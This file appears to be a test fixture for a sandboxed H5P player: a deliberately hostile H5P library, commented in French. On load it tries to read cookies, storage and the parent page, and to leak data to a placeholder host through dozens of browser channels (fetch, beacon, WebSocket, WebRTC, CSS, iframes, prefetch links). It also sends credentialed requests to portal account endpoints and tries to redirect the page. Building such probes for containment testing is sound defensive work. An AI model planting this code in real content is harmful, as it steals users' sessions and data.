// Une bibliothèque H5P hostile : tout ce qu'un paquet déposé peut tenter. __CIBLE__, __PORTAIL__… : écrits par le test.
H5P.TestHostile = (function () {
  const cible = '__CIBLE__';
  const portail = '__PORTAIL__';
  const butin = [];
  const estSeule = window.parent === window; // la page lecteur, ouverte directement

  function essayer(nom, geste) {
    try {
      const valeur = geste();
      if (valeur) { butin.push(`${nom}=${valeur}`); }
    } catch (erreur) { return; }
  }
  function poser(balise, attributs, parent) {
    const element = Object.assign(document.createElement(balise), attributs);
    (parent || document.body).append(element);
    return element;
  }
  function appeler(Connexion) {
    const appel = new Connexion({ iceServers: [
      { urls: 'stun:__STUN__' },
      { urls: `turn:${new URL(cible).host}?transport=tcp`, username: 'a', credential: 'b' },
    ] });
    appel.createDataChannel('x');
    appel.createOffer().then((offre) => appel.setLocalDescription(offre));
  }

  const VOLS = {
    cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
    stockage: () => Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window).length,
    dom: () => (estSeule ? '' : window.parent.document.body.innerHTML),
    indexeddb: () => { indexedDB.open('x'); return 'ouvert'; },
    ouvrier_de_service: () => { navigator.serviceWorker.register('/sw.js'); },
    caches: () => { caches.open('x').then(() => butin.push('caches')); },
    fenetre: () => window.open(`${cible}/fenetre`),
    poignee: () => {
      if (estSeule) { return; }
      addEventListener('message', (evenement) => butin.push(`message=${evenement.data.type}`));
      const canal = new MessageChannel();
      window.parent.postMessage({ type: 'h5p:ready', v: 1 }, '*', [canal.port2]);
      canal.port1.onmessage = () => butin.push('second port');
    },
  };

  // Chacun touche l'écouteur quand rien ne le retient : le témoin le vérifie.
  const FUITES = {
    beacon: () => navigator.sendBeacon(`${cible}/beacon`, 'x') && undefined,
    fetch: () => { fetch(`${cible}/fetch`, { mode: 'no-cors', credentials: 'include' }).catch(() => 0); },
    poste: () => { fetch(`${cible}/poste`, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => 0); },
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', `${cible}/xhr`); x.send(); },
    image: () => { new Image().src = `${cible}/image`; },
    script: () => { poser('script', { src: `${cible}/script` }); },
    // Une empreinte de la politique, reprise dans integrity, laisserait partir ce script vers l'autre hôte.
    integrite: () => { poser('script', { crossOrigin: 'anonymous', integrity: '__EMPREINTE__', src: `${cible}/integrite` }); },
    importer: () => { import(`${cible}/importer`).catch(() => 0); },
    websocket: () => { new WebSocket(`${cible.replace('http', 'ws')}/websocket`); },
    eventsource: () => { new EventSource(`${cible}/eventsource`); },
    ouvrier: () => {
      new Worker(URL.createObjectURL(new Blob([`fetch("${cible}/ouvrier", {mode: "no-cors"})`])));
    },
    prefetch: () => { poser('link', { rel: 'prefetch', href: `${cible}/prefetch` }); },
    preload: () => { poser('link', { rel: 'preload', as: 'script', href: `${cible}/preload` }); },
    modulepreload: () => { poser('link', { rel: 'modulepreload', href: `${cible}/modulepreload` }); },
    stylesheet: () => { poser('link', { rel: 'stylesheet', href: `${cible}/stylesheet` }); },
    css_import: () => { poser('style', { textContent: `@import "${cible}/css_import";` }); },
    css_fond: () => { poser('style', { textContent: `body { background: url(${cible}/css_fond) }` }); },
    css_police: () => {
      poser('style', { textContent: `@font-face { font-family: f; src: url(${cible}/css_police) } p { font-family: f }` });
      poser('p', { textContent: 'lettre' });
    },
    ping: () => { poser('a', { href: '#ici', ping: `${cible}/ping` }).click(); },
    cadre: () => { poser('iframe', { src: `${cible}/cadre` }); },
    cadre_ecrit: () => { poser('iframe', { srcdoc: `<img src="${cible}/cadre_ecrit">` }); },
    objet: () => { poser('object', { data: `${cible}/objet`, type: 'text/html' }); },
    son: () => { new Audio(`${cible}/son`).play().catch(() => 0); },
    affiche: () => { poser('video', { poster: `${cible}/affiche` }); },
    svg: () => { poser('div', { innerHTML: `<svg><image href="${cible}/svg"/></svg>` }); },
    webrtc: () => appeler(window.RTCPeerConnection),
    webrtc_cadre_ecrit: () => {
      poser('iframe', { srcdoc: '<script src="__SECOND__"></scr' + 'ipt>' });
    },
    preconnect: () => { poser('link', { rel: 'preconnect', href: cible }); },
    dns_prefetch: () => { poser('link', { rel: 'dns-prefetch', href: 'http://fuite.exemple.invalid' }); },
  };

  // Chacun emmène la page ailleurs : un seul à la fois.
  const DEPARTS = {
    formulaire: () => { poser('form', { action: `${cible}/formulaire`, method: 'post' }).submit(); },
    telechargement: () => {
      HTMLAnchorElement.prototype.click.call(poser('a', { href: `${cible}/telechargement`, download: 'x' }));
    },
    rafraichir: () => { poser('meta', { httpEquiv: 'refresh', content: `0;url=${cible}/rafraichir` }, document.head); },
    navigation: () => { window.location.href = `${cible}/navigation`; },
    top: () => { window.top.location.href = `${cible}/top`; },
  };

  function appelerLePortail() {
    for (const adresse of ['/api/h5p/__TENTATIVE__/statements', '/mon-compte/', '__AUTRE_CONTENU__']) {
      const complete = portail + adresse;
      fetch(complete, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).catch(() => 0);
      fetch(complete, { credentials: 'include' }).then((r) => r.ok && butin.push(adresse)).catch(() => 0);
    }
  }
  function toutTenter() {
    for (const [nom, geste] of Object.entries({ ...VOLS, ...FUITES })) { essayer(nom, geste); }
    appelerLePortail();
    const lu = poser('p', { className: 'butin' });
    setTimeout(() => { lu.textContent = `butin : ${butin.join(' ; ')}`; }, 1500);
  }

  function Hostile() { H5P.EventDispatcher.call(this); }
  Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
  Hostile.prototype.attach = toutTenter;
  window.tenter = (nom) => essayer(nom, DEPARTS[nom]);
  window.fuites = Object.keys(FUITES);
  window.departs = Object.keys(DEPARTS);
  // Sans page au-dessus d'elle, rien ne la démarre : la bibliothèque agit d'elle-même.
  if (estSeule) { addEventListener('load', toutTenter); }
  return Hostile;
})();
